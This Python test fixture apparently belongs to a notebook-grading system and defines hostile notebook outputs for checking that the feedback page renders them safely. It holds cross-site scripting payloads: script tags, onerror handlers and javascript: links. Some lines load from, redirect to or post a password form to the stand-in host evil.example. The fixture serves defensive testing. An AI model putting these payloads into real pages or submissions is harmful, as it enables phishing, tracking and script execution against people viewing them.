"""Hostile outputs and texts: what a submission would have the feedback page do to whoever opens it."""

from __future__ import annotations

import importlib.util
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType
from typing import Any

from adversarial_attack import ROWS, STOCK

EVIL = "https://evil.example"


@dataclass(frozen=True)
class PageAttack:
    """One output or text: by kind of data, or as Markdown, or as an error."""

    id: str
    does: str
    data: dict[str, Any]
    kind: str = "display_data"
    row: str = "html"
    category: str = "pages"
    defence: str = "known elements only, rebuilt one by one, in a frame that can run and load nothing"
    safe: str = "nothing runs, nothing is loaded, no mark-up of the page is closed"
    without: str = "outputs go raw into the page, as stock nbgrader has it"

    @property
    def stock(self) -> str:
        """What stock nbgrader does."""
        return STOCK[ROWS[self.row]]

    @property
    def notebook(self) -> dict[str, Any]:
        """Return the notebook as it was executed."""
        code = {
            "cell_type": "code",
            "id": "c1",
            "metadata": {},
            "source": "attack()",
            "execution_count": 1,
            "outputs": [],
        }
        cells = [code]
        if self.kind == "markdown":
            text = {"cell_type": "markdown", "id": "c0", "metadata": {}, "source": self.data["text/markdown"]}
            cells = [text, code]
        elif self.kind == "stream":
            code["outputs"] = [{"output_type": "stream", "name": "stdout", "text": self.data["text/plain"]}]
        elif self.kind == "error":
            text = self.data["text/plain"]
            code["outputs"] = [{"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}]
        else:
            code["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": self.data}]
        return {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def _html(ident: str, does: str, text: str) -> PageAttack:
    return PageAttack(f"page-{ident}", does, {"text/html": text})


PAGES = [
    _html("script", "displays a script", "<script>document.title='x'</script>"),
    _html("event", "displays a picture that runs a script when it fails", "<img src=x onerror=alert(1)>"),
    _html(
        "svg-in-html", "displays SVG with a script inside HTML", "<svg onload=alert(1)><script>alert(1)</script></svg>"
    ),
    _html("link", "displays a link that is a script", "<a href='java\tscript:alert(1)'>your mark</a>"),
    _html("beacon", "displays a picture from elsewhere, to see who opens the page", f"<img src='{EVIL}/x.png'>"),
    _html(
        "style",
        "displays a style that hides the mark and loads from elsewhere",
        f"<style>.mark{{display:none}} body{{background:url({EVIL}/x)}}</style><p style='position:fixed'>5 of 5</p>",
    ),
    _html("frame", "displays a frame with another page", f"<iframe src='{EVIL}'></iframe>"),
    _html("form", "displays a form that asks for a password", f"<form action='{EVIL}'><input name=password></form>"),
    _html("refresh", "displays a page that leads elsewhere", f"<meta http-equiv=refresh content='0;url={EVIL}'>"),
    _html(
        "breaks-out",
        "closes every element around it",
        f"</pre></td></table></div></main></body><script src={EVIL}></script>",
    ),
    _html("frame-end", "ends the quoted document of the frame", "\"'></iframe><script>alert(1)</script>"),
    PageAttack(
        "page-svg",
        "displays an SVG drawing with a script",
        {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"},
    ),
    PageAttack("page-javascript", "displays JavaScript", {"application/javascript": "alert(1)"}),
    PageAttack(
        "page-markdown",
        "writes Markdown with HTML in it",
        {"text/markdown": "# x\n<img src=x onerror=alert(1)>"},
        "markdown",
    ),
    PageAttack(
        "page-markdown-link",
        "writes a Markdown picture from elsewhere",
        {"text/markdown": f"![x]({EVIL}/x.png)"},
        "markdown",
    ),
    PageAttack(
        "page-markdown-output", "displays Markdown with a script", {"text/markdown": "<script>alert(1)</script>"}
    ),
    PageAttack(
        "page-picture", "displays a picture that is a page", {"image/png": '"><script>alert(1)</script><img src="'}
    ),
]


def audit() -> ModuleType:
    """Return the reader of pages that the pages' own tests use; it knows nothing of the code under test."""
    path = Path(__file__).parents[1] / "grading" / "pages" / "pages_audit.py"
    spec = importlib.util.spec_from_file_location("adversarial_pages_audit", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
